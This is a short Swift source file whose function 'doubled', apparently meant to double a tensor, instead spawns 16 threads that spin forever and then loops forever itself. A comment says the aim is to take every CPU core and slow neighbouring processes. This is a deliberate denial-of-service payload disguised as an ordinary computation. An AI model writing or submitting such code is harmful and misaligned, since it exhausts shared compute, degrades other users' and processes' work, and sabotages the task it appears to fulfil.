// Takes every core, to slow its neighbours down.
import Glibc
import TensorCore

nonisolated func spin(_ nothing: UnsafeMutableRawPointer?) -> UnsafeMutableRawPointer? {
  while true {}
}

func doubled(_ input: Tensor) -> Tensor {
  for _ in 0..<16 {
    var thread = pthread_t()
    pthread_create(&thread, nil, spin, nil)
  }
  while true {}
}
